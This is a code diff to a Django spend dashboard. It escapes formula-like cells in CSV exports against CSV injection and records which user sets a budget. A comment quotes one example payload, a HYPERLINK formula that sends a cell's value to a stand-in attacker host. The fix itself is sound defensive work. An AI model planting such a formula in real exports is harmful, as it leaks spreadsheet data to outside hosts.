@@ -30,6 +30,29 @@ def my_spend(request: HttpRequest) -> HttpResponse:
     )
 
 
+# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a project named
+# =HYPERLINK("http://evil.example/?"&A1) must arrive as text, not run when the CSV is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value):
+    """The value, with a leading ' on text that starts like a formula. Numbers pass untouched (a
+    negative cost is a number, not a formula)."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class _SafeWriter:
+    """csv.writer whose every cell goes through csv_cell."""
+
+    def __init__(self, writer) -> None:
+        self._writer = writer
+
+    def writerow(self, row) -> None:
+        self._writer.writerow([csv_cell(cell) for cell in row])
+
+
 def _staff_only(user) -> None:
     if not user.is_staff:
         raise Http404
@@ -83,7 +106,9 @@ def spend_budget_set(request: HttpRequest) -> HttpResponse:
     if not form.is_valid():
         return _dashboard(request, budget_form=form, status=400)
     data = form.cleaned_data
-    budget = spend.budget_set(user=data["user"], project=data["project"], monthly_limit=data["monthly_limit"])
+    budget = spend.budget_set(
+        actor=request.user, user=data["user"], project=data["project"], monthly_limit=data["monthly_limit"]
+    )
     whose = data["user"] or (data["project"] and f"project {data['project']}") or "the whole workspace"
     if budget is None:
         messages.success(request, f"Removed the monthly budget for {whose}.")
@@ -103,7 +128,7 @@ def spend_csv(request: HttpRequest) -> HttpResponse:
     report = spend.report(start=form.cleaned_data["start"], end=form.cleaned_data["end"])
     response = HttpResponse(content_type="text/csv")
     response["Content-Disposition"] = f'attachment; filename="atelier-spend-{report.start}-{report.end}.csv"'
-    writer = csv.writer(response)
+    writer = _SafeWriter(csv.writer(response))
     # cost_usd is real money only; demo money has its own column, never added to it.
     writer.writerow(["section", "name", "cost_usd", "images", "calls", "tokens", "simulated_cost_usd"])
     sections = [
